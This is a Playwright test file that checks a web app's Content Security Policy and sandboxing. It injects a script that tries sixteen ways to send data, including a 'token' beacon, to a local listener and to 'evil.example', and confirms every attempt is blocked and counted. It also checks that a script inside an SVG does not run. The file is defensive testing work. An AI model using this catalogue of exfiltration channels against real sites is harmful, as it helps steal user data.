import { readdirSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { askLocally } from '@carry/releases';
import { getSocket } from './support/releases/visits';
import { expect, test } from './support/site/fixtures';

test('blocks and counts exfiltration from an injected script', {
  tag: ['@fault-11.30', '@fault-C4'],
}, async ({ page, site, expectErrors, allowErrors }) => {
  const heard: string[] = [];
  const foreign = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response
      .writeHead(200, { 'access-control-allow-origin': '*', 'cache-control': 'max-age=60' })
      .end();
  });
  foreign.on('upgrade', (request, socket) => {
    heard.push(`socket ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  const evil = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  const elsewhere = 'https://evil.example';
  await page.context().route(`${elsewhere}/**`, async (route) => {
    heard.push(route.request().url());
    await route.fulfill({ body: '' });
  });
  await page.goto('/login');
  await expect(page.getByRole('heading', { name: 'Login' })).toBeVisible();
  const socket = `ws://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  for (const [at, sockets] of [
    ['', socket],
    [elsewhere, 'wss://evil.example'],
  ]) {
    expectErrors(
      ...['picture', 'preload', 'background'].map(
        (way) => `policy violation: img-src of ${at}/${way}`,
      ),
      ...['call', 'beacon', 'events'].map((way) => `policy violation: connect-src of ${at}/${way}`),
      `policy violation: connect-src of ${sockets}/socket`,
      `policy violation: default-src of ${at}/prefetch`,
      `policy violation: style-src-elem of ${at}/style`,
      `policy violation: media-src of ${at}/sound`,
      `policy violation: frame-src of ${at}/`,
      `Fetch API cannot load ${at}/call. Refused to connect because it violates the document's Content Security Policy.`,
    );
    // the document may unload before the last report
    allowErrors(
      `policy violation: connect-src of ${at}/ping`,
      `policy violation: form-action of ${at}/form`,
    );
  }
  expectErrors(
    ...['img', 'default', 'style', 'connect', 'frame'].map(
      (what) => `policy violation: ${what}-src`,
    ),
  );
  allowErrors('policy violation: form-action', 'policy violation: media-src');
  const tryAll = async (evil: string) => {
    const add = (tag: string, properties: object) =>
      document.body.append(Object.assign(document.createElement(tag), properties));
    const ways: Record<string, () => unknown> = {
      picture: () => add('img', { src: `${evil}/picture` }),
      prefetch: () => add('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
      preload: () => add('link', { rel: 'preload', as: 'image', href: `${evil}/preload` }),
      prerender: () => add('link', { rel: 'prerender', href: `${evil}/prerender` }),
      manifest: () => add('link', { rel: 'manifest', href: `${evil}/manifest` }),
      style: () => add('link', { rel: 'stylesheet', href: `${evil}/style` }),
      speculation: () =>
        add('script', {
          type: 'speculationrules',
          textContent: JSON.stringify({ prefetch: [{ urls: [`${evil}/rules`] }] }),
        }),
      sound: () => add('audio', { src: `${evil}/sound` }),
      frame: () => add('iframe', { src: `${evil}/frame` }),
      background: () => document.body.style.setProperty('background', `url(${evil}/background)`),
      call: () => fetch(`${evil}/call`, { mode: 'no-cors' }),
      beacon: () => navigator.sendBeacon(`${evil}/beacon`, 'token'),
      ping: () => {
        add('a', { href: '#', ping: `${evil}/ping`, id: 'ping' });
        document.getElementById('ping')?.click();
      },
      socket: () => new WebSocket(`${evil.replace('http', 'ws')}/socket`),
      events: () => new EventSource(`${evil}/events`),
      form: () => {
        add('form', { action: `${evil}/form`, method: 'post', target: '_self', id: 'form' });
        (document.getElementById('form') as HTMLFormElement).submit();
      },
    };
    for (const way of Object.values(ways)) {
      try {
        await way();
      } catch {}
    }
    return Object.keys(ways).length;
  };
  for (const origin of [evil, elsewhere]) expect(await page.evaluate(tryAll, origin)).toBe(16);
  await page.waitForTimeout(1000);
  expect(heard).toEqual([]);
  await expect
    .poll(
      async () =>
        (await askLocally(getSocket(site), '/_shell/status?format=prometheus')).text.match(
          /carry_csp_violations_total\{.*img-src.*/,
        )?.[0],
    )
    .toMatch(/directive="img-src",blocked="foreign"\} [1-9]/);
  expect(site.lines.join()).not.toContain(evil);
  foreign.closeAllConnections();
  foreign.close();
});

test('runs no script of a picture opened as a page', async ({ page, site, expectErrors }) => {
  const file = readdirSync(site.store, { recursive: true, encoding: 'utf8' }).find((name) =>
    /^mf-account\/[^/]+\/web\/.*\/climb\.\w+\.svg$/.test(name),
  );
  const address = `/remotes/${file}`;
  await page.route(`**${address}`, async (route) =>
    route.fulfill({
      response: await route.fetch(),
      body: '<svg xmlns="http://www.w3.org/2000/svg"><script>document.documentElement.id = "ran";</script></svg>',
    }),
  );
  expectErrors(
    "Blocked script execution in 'mf-account/climb.svg' because the document's frame is sandboxed and the 'allow-scripts' permission is not set.",
  );
  await page.goto(address);
  const { id, origin } = await page.evaluate(() => ({
    id: document.documentElement.id,
    origin: self.origin,
  }));
  expect({ id, origin }).toEqual({ id: '', origin: 'null' });
});
